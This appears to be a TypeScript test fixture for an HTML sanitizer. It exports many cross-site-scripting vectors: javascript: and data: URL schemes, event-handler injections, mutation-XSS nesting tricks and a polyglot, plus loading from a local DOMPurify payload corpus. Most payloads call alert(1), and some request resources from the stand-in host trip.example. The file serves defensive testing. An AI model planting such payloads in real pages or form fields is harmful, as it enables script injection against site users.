import { existsSync, readFileSync } from 'node:fs';
import { SIZES } from '#tests/sizes.ts';

const corpus = new URL('../../../../shared/corpora/xss/dompurify.jsonl', import.meta.url);

/** Whether the corpus of attack vectors is on this machine. */
export const hasCorpus = existsSync(corpus);

const SCHEMES = [
  'javascript:alert(1)',
  'JaVaScRiPt:alert(1)',
  ' javascript:alert(1)',
  'java\tscript:alert(1)',
  'java\nscript:alert(1)',
  'java&#10;script:alert(1)',
  'javascript&colon;alert(1)',
  '&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)',
  '\u0001javascript:alert(1)',
  'vbscript:alert(1)',
  'data:text/html,<script>alert(1)</script>',
  'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
  'data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>',
  'blob:alert(1)',
  'https://a.example/" onmouseover="alert(1)',
  "https://a.example/' onfocus='alert(1)' autofocus='",
  '//trip.example/x',
  '\\\\trip.example\\x',
  'https://trip.example\u202e/gpj.x',
];

/** Each calls `alert` or requests something from `trip.example` in a vulnerable browser page. */
const OWN = [
  '<script>alert(1)</script>',
  '<script src="https://trip.example/x.js"></script>',
  '<ScRiPt >alert(1)</sCrIpT >',
  '<img src=x onerror=alert(1)>',
  '<img src="x" onerror="alert`1`">',
  '<img/src=x/onerror=alert(1)>',
  '<img src=x onerror\n=\nalert(1)>',
  '<img src="https://trip.example/pixel.gif">',
  '<svg onload=alert(1)>',
  '<svg><script>alert&#40;1&#41;</script></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<svg><a><animate attributeName=href values="javascript:alert(1)"/><text y=20>x</text></a></svg>',
  '<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><script>alert(1)</script></svg>#x"/></svg>',
  '<svg><style><img src=x onerror=alert(1)></style></svg>',
  '<svg><foreignObject><iframe srcdoc="<script>parent.alert(1)</script>"></iframe></foreignObject></svg>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=alert(1)&gt;">',
  '<math><mtext></form><form><mglyph><style></math><img src=x onerror=alert(1)>',
  '<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=alert(1) src>">',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<template><img src=x onerror=alert(1)></template>',
  '<template shadowrootmode=open><img src=x onerror=alert(1)></template>',
  '<iframe srcdoc="&lt;script&gt;parent.alert(1)&lt;/script&gt;"></iframe>',
  '<iframe src="javascript:parent.alert(1)"></iframe>',
  '<object data="javascript:alert(1)"></object><embed src="https://trip.example/x.swf">',
  '<base href="https://trip.example/"><img src="after-base.gif">',
  '<meta http-equiv="refresh" content="0;url=https://trip.example/refresh">',
  '<link rel=stylesheet href="https://trip.example/x.css"><link rel=preload as=image href="https://trip.example/p.gif">',
  '<style>@import "https://trip.example/i.css";*{background:url(https://trip.example/bg.gif)}</style>',
  '<p style="background:url(https://trip.example/style.gif)">a</p>',
  '<div style="position:fixed;inset:0" onclick=alert(1)>a</div>',
  '<video><source onerror=alert(1)></video><audio src=x onerror=alert(1)></audio>',
  '<video poster="https://trip.example/poster.gif"></video>',
  '<details open ontoggle=alert(1)><summary>a</summary></details>',
  '<input autofocus onfocus=alert(1)><select autofocus onfocus=alert(1)></select><textarea autofocus onfocus=alert(1)></textarea>',
  '<marquee onstart=alert(1)>a</marquee>',
  '<body onload=alert(1)><body onpageshow=alert(1)>',
  '<a href="https://a.example" onmouseenter=alert(1) autofocus onfocus=alert(1) tabindex=0>a</a>',
  '<form action="javascript:alert(1)"><button>a</button></form><button formaction="javascript:alert(1)">b</button>',
  '<isindex type=image src=1 onerror=alert(1)>',
  '<table background="https://trip.example/table.gif"><td background="https://trip.example/td.gif">a</td></table>',
  '<p title="><img src=x onerror=alert(1)>">a</p>',
  '<!--><img src=x onerror=alert(1)>-->',
  '<![CDATA[><img src=x onerror=alert(1)>]]>',
  '<?xml version="1.0"?><img src=x onerror=alert(1)>',
  '<title><img src=x onerror=alert(1)></title></title><img src=x onerror=alert(1)>',
  '<textarea></textarea><img src=x onerror=alert(1)></textarea>',
  '<xmp><img src=x onerror=alert(1)></xmp><plaintext><img src=x onerror=alert(1)>',
  '<img srcset="https://trip.example/set.gif 1x, x 2x"><picture><source srcset="https://trip.example/source.gif"><img></picture>',
  'jaVasCript:/*-/*`/*\\`/*\'/*"/**/(/* */oNcliCk=alert(1) )//%0D%0A%0d%0a//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=alert(1)//>\\x3e',
  '"><img src=x onerror=alert(1)>',
  "'><img src=x onerror=alert(1)>",
  '</script><script>alert(1)</script>',
  ']]></description><script>alert(1)</script>',
  '&lt;img src=x onerror=alert(1)&gt;',
  '&amp;lt;img src=x onerror=alert(1)&amp;gt;',
  '\u202e<img src=x onerror=alert(1)>\u200b',
  '＜img src=x onerror=alert(1)＞<img src=x onerror=alert(1)>',
  '<im\u0000g src=x onerror=alert(1)>',
  '<p>{{constructor.constructor("alert(1)")()}}#{alert(1)}</p>',
  '<div data-node="embed" data-url="https://www.youtube.com/embed/x" data-frame="javascript:alert(1)">a</div>',
  '<figure data-media="x&quot; onload=&quot;alert(1)"><img src=x onerror=alert(1)><figcaption><svg onload=alert(1)></figcaption></figure>',
  ...SCHEMES.map((scheme) => `<a href="${scheme.replaceAll('"', '&quot;')}">liên kết</a>`),
  ...SCHEMES.map((scheme) => `<img src="${scheme.replaceAll('"', '&quot;')}" alt="ảnh">`),
  ...SCHEMES.map((scheme) => `<iframe src="${scheme.replaceAll('"', '&quot;')}"></iframe>`),
];

/** Hostile values for fields of addresses. */
export const HOSTILE_ADDRESSES = SCHEMES;

/** Own vectors and those of the corpus; `npm test` takes an even sample of the corpus. */
export const HOSTILE_HTML: readonly string[] = [
  ...OWN,
  ...(hasCorpus ? readFileSync(corpus, 'utf8').trim().split('\n') : [])
    .filter((_, at) => at % SIZES.everyNthVector === 0)
    .map((line) => (JSON.parse(line) as { payload: string }).payload),
];

/** Vectors that fit into a headline, for fields of plain text. */
export const HOSTILE_TEXTS = [
  '<img src=x onerror=alert(1)>',
  '"><svg onload=alert(1)>',
  "'-alert(1)-'",
  '</script><script>alert(1)</script>',
  '</title><img src=x onerror=alert(1)>',
  ']]><script>alert(1)</script>',
  '" onmouseover="alert(1)" autofocus onfocus="alert(1)',
  '&lt;img src=x onerror=alert(1)&gt;',
  '\u202e<script>alert(1)</script>\u202c\u200b',
  '--><img src=x onerror=alert(1)>',
  'javascript:alert(1)//<svg/onload=alert(1)>',
  '</textarea><img src="https://trip.example/p.gif">',
];
